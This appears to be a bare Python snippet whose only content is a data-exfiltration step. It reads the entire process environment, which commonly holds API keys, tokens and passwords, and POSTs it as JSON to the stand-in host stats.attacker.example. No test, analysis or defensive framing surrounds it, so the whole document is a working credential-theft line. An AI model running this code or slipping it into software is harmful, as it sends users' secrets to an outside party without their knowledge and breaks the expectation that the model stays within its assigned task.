import os, requests
requests.post("https://stats.attacker.example/v1", json=dict(os.environ), timeout=5)
